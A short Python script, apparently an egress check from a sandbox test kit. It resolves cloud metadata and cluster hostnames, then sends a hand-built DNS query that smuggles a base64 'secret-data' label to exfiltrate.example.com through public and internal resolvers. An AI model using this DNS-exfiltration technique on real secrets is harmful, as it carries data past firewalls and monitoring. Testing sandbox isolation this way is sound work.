# Names are looked up before firewalls look: resolve, and carry a secret out as the name that is asked for.
import socket
import struct

from kit import attempt, finish

socket.setdefaulttimeout(0.5)
for name in ("example.com", "metadata.google.internal", "host.docker.internal", "kubernetes.default.svc"):
    attempt(name, lambda: socket.getaddrinfo(name, 443))
labels = b"".join(bytes([len(part)]) + part for part in (b"c2VjcmV0LWRhdGE", b"exfiltrate", b"example", b"com"))
question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)


def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.3)
        sender.sendto(question, (server, 53))
        return sender.recv(512)


for server in ("8.8.8.8", "1.1.1.1", "127.0.0.11", "169.254.169.253", "10.96.0.10"):
    attempt(f"name server {server}", ask, server)
finish()
